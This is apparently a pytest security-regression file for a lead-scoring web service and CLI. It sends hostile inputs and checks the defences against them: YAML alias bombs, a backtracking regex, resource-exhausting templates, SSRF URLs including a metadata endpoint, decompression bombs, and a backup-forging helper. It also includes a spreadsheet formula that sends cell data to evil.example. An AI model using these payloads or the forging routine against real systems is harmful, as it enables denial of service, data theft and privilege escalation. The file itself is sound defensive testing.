"""Attacks on a running server and on the command line (docs/security.md, "Hostile documents"):
each test sends what an attacker did and holds the defence. On SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import gzip
import hashlib
import json
import re
import secrets
import socket
import stat
import time
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import event, select
from tests.conftest import key_for, write_csv
from tests.e2e.test_webhooks_http import Receiver
from tests.integration.test_tracking import beacon, identify_body
from typer.testing import CliRunner

from qualify.adapters import repository as repo
from qualify.adapters import schema
from qualify.adapters.store import head_revision
from qualify.adapters.webhook_client import Allowed, new_client, post
from qualify.bootstrap import open_workspace
from qualify.domain.access import Role
from qualify.domain.model_loader import default_model_text
from qualify.domain.records import Lead
from qualify.entrypoints import web
from qualify.entrypoints.api import create_app
from qualify.entrypoints.cli import app
from qualify.entrypoints.web.session import Session, sign
from qualify.entrypoints.web.session import verify as verify_session
from qualify.service.admin import users
from qualify.service.admin.api_keys import create_key
from qualify.service.admin.users import session_secret
from qualify.service.lifecycle.leads import upsert_leads
from qualify.service.lifecycle.scoring_models import activate_model
from qualify.service.unit_of_work import Workspace
from qualify.settings import Settings


def alias_bomb(levels: int = 6) -> str:
    """A "billion laughs" document: each level lists the one before ten times."""
    lines = ["l0: &l0 [" + ", ".join(["lol"] * 10) + "]"]
    for level in range(1, levels + 1):
        lines.append(f"l{level}: &l{level} [" + ", ".join([f"*l{level - 1}"] * 10) + "]")
    return "\n".join(lines) + "\n"


HOSTILE_YAML = {
    "alias bomb": (alias_bomb(), "more than 100,000 values once its aliases are followed"),
    "an alias inside itself": ("name: x\nfit: &a [*a]\n", "an alias refers to the list or mapping that holds it"),
    "500 levels deep": ("name: " + "[" * 500 + "]" * 500 + "\n", "nested more than 64 levels deep"),
}


@pytest.fixture
def api(workspace: Workspace) -> Iterator[tuple[TestClient, dict[str, str]]]:
    with workspace.unit_of_work() as uow:
        token, _ = create_key(uow, "marketing", Role.MARKETING.value)
    with TestClient(create_app(workspace=workspace)) as client:
        yield client, {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("attack", sorted(HOSTILE_YAML))
def test_a_hostile_model_document_is_refused_with_its_place_in_bounded_time(
    api: tuple[TestClient, dict[str, str]], attack: str
) -> None:
    client, key = api
    document, reason = HOSTILE_YAML[attack]
    started = time.perf_counter()
    answer = client.post("/v1/models/validate", json={"document": document}, headers=key)
    # Bounded, not fast: followed without a limit these documents expand to billions of values (the
    # process would run for minutes or exhaust memory). Refused, the request takes 0.3-0.6 s on an
    # idle 2-core machine and up to 1.5 s there under the whole suite's load: 2.5 s leaves room.
    assert time.perf_counter() - started < 2.5
    assert answer.status_code == 422, answer.text
    problems = answer.json()["problems"]
    assert any(reason in p["message"] and p["line"] for p in problems), problems
    assert client.get("/healthz").status_code == 200


@pytest.mark.parametrize("attack", sorted(HOSTILE_YAML))
def test_a_hostile_import_mapping_is_refused_without_a_traceback(tmp_path: Path, attack: str) -> None:
    document, reason = HOSTILE_YAML[attack]
    mapping = tmp_path / "mapping.yaml"
    mapping.write_text(document, encoding="utf-8")
    leads = write_csv(tmp_path / "leads.csv", ["email"], [["ann@acme.com"]])
    db = f"sqlite:///{tmp_path / 'w.db'}"
    assert CliRunner().invoke(app, ["init", "--db", db]).exit_code == 0
    started = time.perf_counter()
    done = CliRunner().invoke(app, ["import", "leads", str(leads), "--mapping", str(mapping), "--db", db])
    assert time.perf_counter() - started < 2.0
    assert done.exit_code == 2, done.output
    assert reason in done.stderr and "Traceback" not in done.output


def test_a_backtracking_regex_cannot_stall_the_server(
    api: tuple[TestClient, dict[str, str]], workspace: Workspace
) -> None:
    """`^([a-z]+)+$` backtracks exponentially in Python's engine: 26 letters and a digit took 5.85 s,
    with /healthz blocked. RE2 matches in linear time."""
    client, key = api
    segment = {"description": "nested quantifiers", "when": [{"field": "first_name", "regex": "^([a-z]+)+$"}]}
    assert client.put("/v1/segments/evil", json=segment, headers=key).status_code == 200
    started = time.perf_counter()
    name = "a" * 27 + "1"  # Python's engine: about 7 s on this machine kind, doubling with each letter
    answer = beacon(client, "identify", identify_body("victim@acme.com", first_name=name))
    assert answer.status_code == 200, answer.text
    assert time.perf_counter() - started < 2.0
    look_around = {"when": [{"field": "first_name", "regex": "^(?!admin)"}]}
    refused = client.put("/v1/segments/peek", json=look_around, headers=key)
    assert refused.status_code == 422
    [problem] = refused.json()["problems"]
    assert problem["field"].endswith("when[0].regex") and "no look-around" in problem["message"]


HOSTILE_TEMPLATES = {
    "a filter building a gigabyte": ('{{ "x"|center(10**9) }}', "the filter center would build more than"),
    "a string method building a gigabyte": ('{{ "x".ljust(10**9) }}', "str.ljust would build more than"),
    "a format width": ('{{ "%0999999999d" % 1 }}', "a width or precision would build more than"),
    "replacing into a gigabyte": (
        '{% set s = "x" * 100000 %}{{ s|replace("x", "y" * 100000) }}',
        "the filter replace would build more than",
    ),
    "doubling a text": (
        "{% macro d(s, n) %}{% if n %}{{ d(s ~ s, n - 1) }}{% endif %}{% endmacro %}{{ d('x', 40) }}",
        "joining texts with ~ would build more than",
    ),
    "nested loops": (
        "Hi\n{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}",
        "the template takes more than 100,000 steps",
    ),
    "a macro calling itself twice": (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(40) }}",
        "the template takes more than 100,000 steps",
    ),
    "a huge output": ('{% for i in range(20000) %}{{ "x" * 100 }}{% endfor %}', "longer than 1,000,000 characters"),
}


@pytest.mark.parametrize("attack", sorted(HOSTILE_TEMPLATES))
def test_a_hostile_email_template_is_stopped_while_it_renders(
    api: tuple[TestClient, dict[str, str]], attack: str
) -> None:
    """`{{ "x"|center(10**9) }}` took the server from 0.15 to 2.09 GB before the output limit was
    checked; nested loops ran for minutes. Limits now hold while the template renders."""
    client, key = api
    source, reason = HOSTILE_TEMPLATES[attack]
    body = {"subject": "Hello", "text": source}
    started = time.perf_counter()
    answer = client.put("/v1/templates/evil", json=body, headers=key)
    elapsed = time.perf_counter() - started
    assert answer.status_code == 422, answer.text
    assert reason in answer.json()["detail"] and "text" in answer.json()["detail"], answer.json()
    assert elapsed < 3.0, elapsed
    tracemalloc.start()  # memory on a second try: tracing slows Python down many times over
    try:
        assert client.put("/v1/templates/evil", json=body, headers=key).status_code == 422
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 100_000_000, peak


def test_no_csv_the_product_writes_holds_a_cell_a_spreadsheet_would_run(tmp_path: Path) -> None:
    """An event id `=HYPERLINK(...)` was written unchanged into `qualify rescore --explain x.csv`."""
    runner, db = CliRunner(), ["--db", f"sqlite:///{tmp_path / 'w.db'}"]
    assert runner.invoke(app, ["init", *db]).exit_code == 0
    formula = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
    events = write_csv(
        tmp_path / "events.csv",
        ["event_id", "email", "type", "occurred_at"],
        [
            [formula, "ann@acme.com", "demo_request", "2026-01-05T10:00:00Z"],
            ["@SUM(1+1)", "ann@acme.com", "page_view", "2026-01-06T10:00:00Z"],
            ["e-3", "ann@acme.com", "page_view", "not a time"],
        ],
    )
    # A rejected line that begins with a formula: the rejects file keeps it, quoted.
    leads = tmp_path / "leads.csv"
    leads.write_text('email,title\n"=1+2",Boss\n', encoding="utf-8")
    imported = runner.invoke(app, ["import", "events", str(events), *db, "--json"])
    assert imported.exit_code in (0, 1), imported.output
    rejected = runner.invoke(app, ["import", "leads", str(leads), *db, "--json"])
    assert rejected.exit_code in (0, 1), rejected.output
    explain = tmp_path / "explain.csv"
    out = tmp_path / "scores.csv"
    done = runner.invoke(app, ["rescore", *db, "--explain", str(explain), "--out", str(out)])
    assert done.exit_code == 0, done.output
    written = [explain, out, *tmp_path.glob("*rejects*.csv")]
    assert len(written) >= 4, written
    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    dangerous = [
        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r")) or (c.startswith("-") and not _number(c))
    ]
    assert not dangerous, dangerous
    assert "'" + formula in cells and "'@SUM(1+1)" in cells


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_the_dashboard_cannot_be_framed_and_runs_only_its_own_script(workspace: Workspace) -> None:
    with TestClient(create_app(workspace=workspace)) as client:
        for path in ("/app/login", "/app/static/app.js", "/app/funnel"):
            answer = client.get(path, follow_redirects=False)
            policy = answer.headers["content-security-policy"]
            assert "frame-ancestors 'none'" in policy and "script-src 'self'" in policy, path
            assert answer.headers["x-frame-options"] == "DENY" and answer.headers["x-content-type-options"] == "nosniff"
        assert "content-security-policy" not in client.get("/healthz").headers  # the API's JSON needs none
    # What the policy would block, the pages must not hold: inline scripts, handlers, style attributes.
    templates = Path(web.__file__).parent / "templates"
    for page in templates.glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"<script(?![^>]*\bsrc=)|\son[a-z]+\s*=|\sstyle\s*=", text), page.name


INTERNAL_URLS = [
    "http://127.0.0.1:8000/hook",
    "http://localhost/hook",
    "http://2130706433/hook",
    "http://0x7f000001/hook",
    "http://127.1/hook",
    "http://[::1]/hook",
    "http://[::ffff:127.0.0.1]/hook",
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.5/hook",
    "http://192.168.1.1/hook",
    "http://0.0.0.0/hook",
    "https://user:pass@crm.example.com/hook",
]


def test_a_webhook_cannot_be_pointed_at_the_network_qualify_runs_in(tmp_path: Path) -> None:
    """An admin key registered 127.0.0.1, localhost, 2130706433, 0x7f000001, [::1], 169.254.169.254
    and user:pass@ URLs; the worker posted to them and stored the answer's body, readable back."""
    settings = Settings(database_url=f"sqlite:///{tmp_path / 'w.db'}", webhook_allow="")
    workspace = open_workspace(settings, create=True)
    with workspace.unit_of_work() as uow:
        token, _ = create_key(uow, "admin", Role.ADMIN.value)
    headers = {"Authorization": f"Bearer {token}"}
    with TestClient(create_app(workspace=workspace)) as client:
        for url in INTERNAL_URLS:
            answer = client.post("/v1/webhooks", json={"url": url, "kinds": ["lead.mql"]}, headers=headers)
            assert answer.status_code == 422 and answer.json()["field"] == "url", (url, answer.text)
        public = client.post(
            "/v1/webhooks", json={"url": "https://crm.example.com/hook", "kinds": ["lead.mql"]}, headers=headers
        )
        assert public.status_code == 201, public.text
    workspace.close()


def test_a_delivery_goes_only_to_the_address_that_was_checked(monkeypatch: pytest.MonkeyPatch) -> None:
    """At send time the name is resolved again (DNS rebinding): an internal answer is refused, and
    the request goes to the checked address with the name kept for the Host header."""
    receiver = Receiver(failures=1)
    port = receiver.server.server_address[1]
    resolved: list[str] = []

    def rebinding(host: str, *args: Any, **kwargs: Any) -> Any:
        resolved.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", port))]

    monkeypatch.setattr(socket, "getaddrinfo", rebinding)
    url = f"http://hooks.example.com:{port}/hooks/qualify"
    try:
        with new_client(5.0) as client:
            refused = post(client, url, b"{}", {"Content-Type": "application/json"})
            assert not refused.delivered and refused.error == (
                "refused: hooks.example.com resolves to an internal address (127.0.0.1)"
            )
            assert receiver.received == []
            allowed = Allowed.parse("127.0.0.0/8")
            failed = post(client, url, b"{}", {"Content-Type": "application/json"}, allowed)
            # The receiver's answer ("receiver is down") is not kept: only the status and its reason.
            assert (failed.status, failed.error) == (500, "HTTP 500 Internal Server Error")
            sent = post(client, url, b"{}", {"Content-Type": "application/json"}, allowed)
            assert sent.delivered and receiver.received[-1].headers["host"] == f"hooks.example.com:{port}"
    finally:
        receiver.close()
    # The name is resolved once per attempt; the connection itself goes to the checked address.
    assert [host for host in resolved if host != "127.0.0.1"] == ["hooks.example.com"] * 3


def test_workspaces_and_backups_are_the_owner_s_and_keep_no_key_to_forge_a_session(tmp_path: Path) -> None:
    """The SQLite workspace and `qualify backup` files were 0644, and the backup held the session
    key, from which an admin cookie valid for ten years was forged (the server took the expiry
    from the cookie)."""
    runner, db = CliRunner(), ["--db", f"sqlite:///{tmp_path / 'w.db'}"]
    assert runner.invoke(app, ["init", *db]).exit_code == 0
    settings = Settings(database_url=f"sqlite:///{tmp_path / 'w.db'}")
    workspace = open_workspace(settings)
    with workspace.unit_of_work() as uow:
        key = session_secret(uow, None)  # the key the dashboard made and keeps in the workspace
    workspace.close()
    assert runner.invoke(app, ["backup", str(tmp_path / "plain.qbk"), *db]).exit_code == 0
    assert runner.invoke(app, ["backup", str(tmp_path / "whole.qbk"), "--with-secrets", *db]).exit_code == 0
    for name in ("w.db", "plain.qbk", "whole.qbk"):
        assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600, name
    assert key.decode() not in _backup_text(tmp_path / "plain.qbk")
    assert key.decode() in _backup_text(tmp_path / "whole.qbk")
    restored = f"sqlite:///{tmp_path / 'restored.db'}"
    done = runner.invoke(app, ["restore", str(tmp_path / "plain.qbk"), "--db", restored])
    assert done.exit_code == 0, done.output
    assert stat.S_IMODE((tmp_path / "restored.db").stat().st_mode) == 0o600
    # A cookie signed with the key, claiming ten years: refused whatever its signature.
    forged = sign(Session(1, "csrf", time.time() + 10 * 365 * 86_400), key)
    assert verify_session(forged, key) is None
    assert verify_session(sign(Session(1, "csrf", time.time() + 3600), key), key) is not None


def _backup_text(path: Path) -> str:
    with gzip.open(path, "rt", encoding="utf-8") as handle:
        return handle.read()


def test_an_ingest_key_learns_no_email_and_may_be_kept_from_making_leads(workspace: Workspace, tmp_path: Path) -> None:
    """An ingest (write-only) key sent `"external_id": "CRM-42"` and got back the lead's email."""
    with workspace.unit_of_work() as uow:
        ingest, _ = create_key(uow, "pipe", Role.INGEST.value)
        marketing, _ = create_key(uow, "mkt", Role.MARKETING.value)
    event = {"type": "page_view", "occurred_at": "2026-01-05T10:00:00Z", "external_id": "CRM-42"}
    with TestClient(create_app(workspace=workspace)) as client:
        first = {**event, "event_id": "e-1", "email": "secret.person@hidden.example"}
        made = client.post("/v1/events", json=first, headers={"Authorization": f"Bearer {marketing}"}).json()
        assert made["results"][0]["lead"] == "secret.person@hidden.example"  # a key that may read leads is told
        blind = client.post(
            "/v1/events", json={**event, "event_id": "e-2"}, headers={"Authorization": f"Bearer {ingest}"}
        ).json()
        assert blind["accepted"] == 1 and blind["results"][0]["lead"] is None
        assert "hidden.example" not in json.dumps(blind)
    # With leads made from external ids alone switched off, an unknown id is refused, not a new lead.
    strict = Settings(database_url=f"sqlite:///{tmp_path / 'strict.db'}", create_leads_from_external_ids=False)
    kept = open_workspace(strict, create=True)
    with kept.unit_of_work() as uow:
        activate_model(uow, default_model_text())
        token, _ = create_key(uow, "pipe", Role.INGEST.value)
    with TestClient(create_app(workspace=kept)) as client:
        unknown = {**event, "event_id": "e-3", "external_id": "CRM-999"}
        answer = client.post("/v1/events", json=unknown, headers={"Authorization": f"Bearer {token}"}).json()
        [result] = answer["results"]
        assert (result["status"], result["field"]) == ("rejected", "external_id")
        assert result["reason"] == "no lead CRM-999 (creating leads from an external id alone is off)"
        by_email = {**event, "event_id": "e-4", "email": "new@acme.com", "external_id": None}
        assert (
            client.post("/v1/events", json=by_email, headers={"Authorization": f"Bearer {token}"}).json()["accepted"]
            == 1
        )
    kept.close()


def test_a_parquet_decompression_bomb_is_rejected_row_by_row_without_filling_the_memory(tmp_path: Path) -> None:
    """A 48 KB Parquet file (20,000 rows sharing one dictionary-encoded 1 MiB text) made `qualify
    import` try to allocate 2 GiB and print a traceback."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    rows = 20_000
    bomb = pa.table(
        {
            "email": [f"p{i}@acme.com" for i in range(rows)],
            "note": pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["x" * (1 << 20)])),
        }
    )
    path = tmp_path / "leads.parquet"
    pq.write_table(bomb, path, compression="zstd")
    assert path.stat().st_size < 200_000
    good = tmp_path / "good.parquet"
    pq.write_table(pa.table({"email": ["ok@acme.com"], "note": ["short"]}), good)
    runner, db = CliRunner(), ["--db", f"sqlite:///{tmp_path / 'w.db'}"]
    assert runner.invoke(app, ["init", *db]).exit_code == 0
    tracemalloc.start()
    started = time.perf_counter()
    try:
        done = runner.invoke(app, ["import", "leads", str(path), *db, "--json"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert time.perf_counter() - started < 60 and peak < 300_000_000, peak
    assert done.exit_code != 2 and "Traceback" not in done.output, done.output
    summary = json.loads(done.stdout)
    assert summary["rejected"] == rows and summary["created"] == 0
    with open(summary["rejects_path"], encoding="utf-8") as handle:
        first = next(csv.DictReader(handle))
    assert first["reason"] == "row 1 holds 1,048,587 bytes of text; the limit is 1,048,576 bytes a row"
    assert json.loads(runner.invoke(app, ["import", "leads", str(good), *db, "--json"]).stdout)["created"] == 1


def _limit_sqlite(workspace: Workspace, pragma: str) -> Callable[..., None]:
    """Every new connection of the workspace gets `pragma` (a full disk, a read-only file); returns
    the listener, to remove it."""

    def on_connect(dbapi_connection: Any, _record: Any) -> None:
        cursor = dbapi_connection.cursor()
        if "max_page_count" in pragma:
            pages = cursor.execute("PRAGMA page_count").fetchone()[0]
            cursor.execute(f"PRAGMA max_page_count={pages}")
        else:
            cursor.execute(pragma)
        cursor.close()

    event.listen(workspace.engine, "connect", on_connect)
    workspace.engine.dispose()
    return on_connect


def test_a_full_disk_or_a_read_only_database_is_named_not_a_conflict(
    sqlite_workspace: Workspace, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """On a full disk, 106 batches got `409 Concurrent changes: try again` and nothing was logged; a
    read-only SQLite file gave a 500 on /app/login whose log line held a fresh session key."""
    workspace = sqlite_workspace
    with workspace.unit_of_work() as uow:
        token, _ = create_key(uow, "pipe", Role.INGEST.value)
    full_disk = _limit_sqlite(workspace, "max_page_count")
    events = [
        {"event_id": f"e-{i}", "type": "page_view", "occurred_at": "2026-01-05T10:00:00Z", "email": f"p{i}@acme.com",
         "properties": {"url": "/" + "x" * 2000}}
        for i in range(300)
    ]  # fmt: skip
    with TestClient(create_app(workspace=workspace), raise_server_exceptions=False) as client:
        full = client.post("/v1/events", json=events, headers={"Authorization": f"Bearer {token}"})
    assert full.status_code == 503, full.text
    assert full.json()["detail"].startswith("the database's disk is full: nothing was written")
    assert any(r.levelname == "ERROR" and "disk is full" in r.getMessage() for r in caplog.records)

    caplog.clear()
    event.remove(workspace.engine, "connect", full_disk)
    _limit_sqlite(workspace, "PRAGMA query_only=ON")
    marker = "MARKER-of-a-fresh-session-key-" + "k" * 40
    monkeypatch.setattr(users.secrets, "token_urlsafe", lambda n: marker)
    with TestClient(create_app(workspace=workspace), raise_server_exceptions=False) as client:
        page = client.get("/app/login")
    assert page.status_code == 503 and "the database is read-only" in page.text
    assert marker not in caplog.text and marker not in page.text


def test_a_public_form_cannot_rename_a_lead(workspace: Workspace) -> None:
    """`POST /t/identify` (public, no key) with an existing lead's email and a first name of
    "Your account is suspended. Verify now at http://evil.example/verify" overwrote the CRM's name,
    which a workflow then put into an email's subject."""
    with workspace.unit_of_work() as uow:
        upsert_leads(uow, [Lead(email="jane@acme.com", first_name="Jane")], now=datetime.now(UTC), by="api")
    phishing = "Your account is suspended. Verify now at http://evil.example/verify"
    with TestClient(create_app(workspace=workspace)) as client:
        answer = beacon(client, "identify", identify_body("jane@acme.com", first_name=phishing, last_name="Doe"))
        assert answer.status_code == 200, answer.text
        fresh = beacon(client, "identify", identify_body("new@acme.com", "submit-0002", first_name="Nia"))
        assert fresh.status_code == 200, fresh.text
    with workspace.unit_of_work(read_only=True) as uow:
        jane = repo.find_lead(uow.connection, "jane@acme.com")
        nia = repo.find_lead(uow.connection, "new@acme.com")
        submits = uow.connection.execute(
            select(schema.events.c.properties).where(schema.events.c.type == "form_submit").order_by(schema.events.c.id)
        ).scalars()
        first_submit = next(iter(submits))
    assert jane is not None and nia is not None
    # The trusted name stays; an empty field is filled; what the form said is kept apart, on the submit.
    assert (jane.lead.first_name, jane.lead.last_name, nia.lead.first_name) == ("Jane", "Doe", "Nia")
    assert first_submit["submitted_first_name"] == phishing


def test_a_backup_with_a_monstrous_line_is_refused_before_it_is_read_whole(tmp_path: Path) -> None:
    """A 1.5 MB backup holding one 1.5 GiB line exhausted the memory of `qualify restore`."""
    path = tmp_path / "evil.qbk"
    header = json.dumps({"format": "qualify-backup", "version": 1, "revision": head_revision(), "created_at": "x"})
    with gzip.open(path, "wt", encoding="utf-8") as out:
        out.write(header + "\n")
        out.write('{"t": "leads", "r": {"note": "')
        chunk = "x" * (1 << 20)
        for _ in range(80):  # 80 MiB on one line, a few hundred KB compressed
            out.write(chunk)
        out.write('"}}\n')
    assert path.stat().st_size < 1_000_000
    runner = CliRunner()
    tracemalloc.start()
    try:
        done = runner.invoke(app, ["restore", str(path), "--db", f"sqlite:///{tmp_path / 'target.db'}"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert done.exit_code == 2 and "line 2: longer than 67,108,864 characters" in done.stderr, done.output
    assert peak < 400_000_000, peak


def test_a_sales_key_acts_only_as_its_rep_and_only_on_their_leads(workspace: Workspace) -> None:
    """A sales key rejected another rep's lead with `"by"` set to that rep: history and audit named
    the other rep. The dashboard refused the same act."""
    with workspace.unit_of_work() as uow:
        ingest = key_for(uow, Role.INGEST.value)
        admin = key_for(uow, Role.ADMIN.value)
    demo = {"event_id": "d-1", "type": "demo_request", "occurred_at": datetime.now(UTC).isoformat()}
    with TestClient(create_app(workspace=workspace)) as client:
        client.post(
            "/v1/events", json={**demo, "email": "jane@acme.com"}, headers={"Authorization": f"Bearer {ingest}"}
        )
        owner = client.get("/v1/leads/jane@acme.com", headers={"Authorization": f"Bearer {admin}"}).json()["owner"]
        assert owner, "the lead went to a rep"
        with workspace.unit_of_work() as uow:
            own = {"Authorization": f"Bearer {key_for(uow, 'sales', 'own', user=owner)}"}
            other = {"Authorization": f"Bearer {key_for(uow, 'sales', 'other', user='not.' + owner)}"}
            # A sales key made before keys had users, whose name is no user's: left unbound by the upgrade.
            unbound, _ = create_key(uow, "old", Role.ADMIN.value)
            uow.connection.execute(
                schema.api_keys.update().where(schema.api_keys.c.name == "old").values(role=Role.SALES.value)
            )
        url = "/v1/leads/jane@acme.com/actions/reject"
        body = {"reason": "no_budget", "by": owner}
        impersonating = client.post(url, json=body, headers=other)
        assert impersonating.status_code == 403 and "cannot record an action by" in impersonating.json()["detail"]
        not_theirs = client.post(url, json={"reason": "no_budget"}, headers=other)
        assert not_theirs.status_code == 403 and not_theirs.json()["type"].endswith("/not-your-lead")
        old = {"Authorization": f"Bearer {unbound}"}
        assert client.get("/v1/leads/jane@acme.com", headers=old).status_code == 200  # it may still read
        refused = client.post(url, json={"reason": "no_budget"}, headers=old)
        assert refused.status_code == 403 and "--user REP" in refused.json()["detail"]
        assert client.get("/v1/leads/jane@acme.com", headers=own).json()["stage"] == "mql"  # nothing happened
        done = client.post(url, json={"reason": "no_budget"}, headers=own)
        assert done.status_code == 200, done.text
        history = client.get("/v1/leads/jane@acme.com", headers=own).json()["history"]
        assert history[-1]["by"] == owner
    with workspace.unit_of_work(read_only=True) as uow:
        actors = uow.connection.execute(
            select(schema.audit_log.c.actor).where(schema.audit_log.c.action == "stage.reject")
        ).scalars()
        assert list(actors) == [owner]


def test_a_sales_key_cannot_be_made_without_its_rep(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'w.db'}"
    runner = CliRunner()
    assert runner.invoke(app, ["init", "--db", db]).exit_code == 0
    unbound = runner.invoke(app, ["keys", "create", "crm", "--role", "sales", "--db", db])
    assert unbound.exit_code == 2 and "a sales key acts for one rep: say whom with --user NAME" in unbound.stderr
    nobody = runner.invoke(app, ["keys", "create", "crm", "--role", "sales", "--user", "ghost", "--db", db])
    assert nobody.exit_code == 2 and "no enabled user 'ghost'" in nobody.stderr
    added = runner.invoke(
        app, ["users", "add", "ana", "--role", "sales", "--password-stdin", "--db", db], input="p" * 12
    )
    assert added.exit_code == 0, added.output
    made = runner.invoke(app, ["keys", "create", "crm", "--role", "sales", "--user", "ana", "--json", "--db", db])
    assert made.exit_code == 0 and json.loads(made.stdout)["user"] == "ana"
    listed = runner.invoke(app, ["keys", "list", "--json", "--db", db])
    assert json.loads(listed.stdout)[0]["user"] == "ana"


def said(result: Any) -> str:
    """What a command printed, as one line (the terminal's wrapping undone)."""
    return " ".join(result.output.split())


def _forge(source: Path, target: Path, change: Callable[[list[dict[str, Any]]], None]) -> None:
    """The attack on a backup: edit its rows, then recompute the footer's counts and checksums."""
    with gzip.open(source, "rt", encoding="utf-8") as handle:
        items = [json.loads(line) for line in handle]
    header, rows, footer = items[0], [i for i in items[1:] if "t" in i], items[-1]
    change(rows)
    manifest = footer["footer"]
    for table in manifest["counts"]:
        digest, count = hashlib.sha256(), 0
        for row in (r["r"] for r in rows if r["t"] == table):
            digest.update(json.dumps(row, sort_keys=True, separators=(",", ":"), ensure_ascii=False).encode() + b"\n")
            count += 1
        manifest["counts"][table], manifest["checksums"][table] = count, digest.hexdigest()
    with gzip.open(target, "wt", encoding="utf-8") as out:
        for item in (header, *rows, footer):
            out.write(json.dumps(item, ensure_ascii=False) + "\n")


def test_an_edited_backup_is_refused_and_a_signed_one_cannot_be_forged(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A backup edited to add an admin user and a lead in stage `pwned`, its checksums recomputed,
    restored as "every table matches": the new admin signed in, and the lead answered 500 everywhere."""
    runner = CliRunner()
    source = f"sqlite:///{tmp_path / 'source.db'}"
    assert runner.invoke(app, ["init", "--db", source]).exit_code == 0
    workspace = open_workspace(Settings(database_url=source))
    with workspace.unit_of_work() as uow:
        upsert_leads(uow, [Lead(email="jane@acme.com", first_name="Jane")], now=datetime.now(UTC), by="api")
        users.add_user(uow, "ana", "admin", "a long enough password")
    workspace.close()
    plain = tmp_path / "plain.qbk"
    assert runner.invoke(app, ["backup", str(plain), "--db", source]).exit_code == 0

    def pwn(rows: list[dict[str, Any]]) -> None:
        lead = next(r["r"] for r in rows if r["t"] == "leads")
        lead["stage"] = "pwned"

    def add_admin(rows: list[dict[str, Any]]) -> None:
        ana = next(r for r in rows if r["t"] == "users")
        eve = {**ana["r"], "id": ana["r"]["id"] + 1, "name": "eve"}
        rows.insert(rows.index(ana) + 1, {"t": "users", "r": eve})

    def restore_of(path: Path, *extra: str, env: dict[str, str] | None = None) -> Any:
        target = f"sqlite:///{tmp_path / f'restored-{time.monotonic_ns()}.db'}"
        return runner.invoke(app, ["restore", str(path), *extra, "--db", target], env=env)

    # Unsigned: every value is checked as live input, so the impossible stage is refused whole.
    _forge(plain, pwned := tmp_path / "pwned.qbk", pwn)
    refused = restore_of(pwned)
    assert refused.exit_code == 2, refused.output
    assert re.search(r"pwned\.qbk, line \d+: leads\.stage: 'pwned' is not a lifecycle stage", refused.stderr)
    assert "nothing was restored" in refused.stderr
    # A well-formed admin added by hand is what checks cannot see: signing is the defence.
    key = {"QUALIFY_BACKUP_KEY": "k3y-" + secrets.token_urlsafe(32)}
    signed = tmp_path / "signed.qbk"
    made = runner.invoke(app, ["backup", str(signed), "--db", source], env=key)
    assert made.exit_code == 0 and ", signed." in said(made), made.output
    _forge(signed, forged := tmp_path / "forged.qbk", add_admin)
    caught = restore_of(forged, env=key)
    assert caught.exit_code == 2 and "the signature does not match" in caught.stderr, caught.output
    other_key = restore_of(signed, env={"QUALIFY_BACKUP_KEY": "k3y-" + secrets.token_urlsafe(32)})
    assert other_key.exit_code == 2 and "the signature does not match" in other_key.stderr
    no_key = restore_of(signed)
    assert no_key.exit_code == 2 and "the backup is signed: set QUALIFY_BACKUP_KEY" in no_key.stderr
    not_signed = restore_of(plain, env=key)
    assert not_signed.exit_code == 2 and "the backup is not signed" in not_signed.stderr
    weak = runner.invoke(app, ["backup", str(tmp_path / "w.qbk"), "--db", source], env={"QUALIFY_BACKUP_KEY": "x" * 40})
    assert weak.exit_code == 2 and "QUALIFY_BACKUP_KEY cannot sign backups: it is one character repeated" in weak.stderr
    # The genuine ones restore: signed with its key, and unsigned when told to.
    good = restore_of(signed, env=key)
    assert good.exit_code == 0 and "its signature is good" in said(good), good.output
    told = restore_of(plain, "--unsigned", env=key)
    assert told.exit_code == 0 and "it is unsigned" in said(told), told.output


@pytest.mark.parametrize(
    ("table", "column", "value", "why"),
    [
        ("leads", "email", "Jane@ACME.com ", "is not an email address as the product stores one"),
        ("leads", "fit_score", float("inf"), "not a finite number"),
        ("leads", "created_at", "2026-01-01T10:00:00", "a time without a zone"),
        ("leads", "first_name", "x" * 201, "201 characters; the column holds 200"),
        ("leads", "attributes", {"a": "\u0000"}, "contains a NUL character"),
        ("users", "role", "root", "'root' is not a dashboard role"),
        ("users", "password_hash", "plain-text", "not a password hash the product makes"),
        ("scoring_models", "document", "name: [", "the document does not load"),
    ],
)
def test_every_restored_value_is_checked_as_live_input(
    tmp_path: Path, table: str, column: str, value: Any, why: str
) -> None:
    source = tmp_path / "source.db"
    workspace = open_workspace(Settings(database_url=f"sqlite:///{source}"), create=True)
    with workspace.unit_of_work() as uow:
        activate_model(uow, default_model_text())
        upsert_leads(uow, [Lead(email="jane@acme.com", first_name="Jane")], now=datetime.now(UTC), by="api")
        users.add_user(uow, "ana", "admin", "a long enough password")
    runner = CliRunner()
    plain = tmp_path / "plain.qbk"
    assert runner.invoke(app, ["backup", str(plain), "--db", f"sqlite:///{source}"]).exit_code == 0
    workspace.close()

    def edit(rows: list[dict[str, Any]]) -> None:
        next(r["r"] for r in rows if r["t"] == table)[column] = value

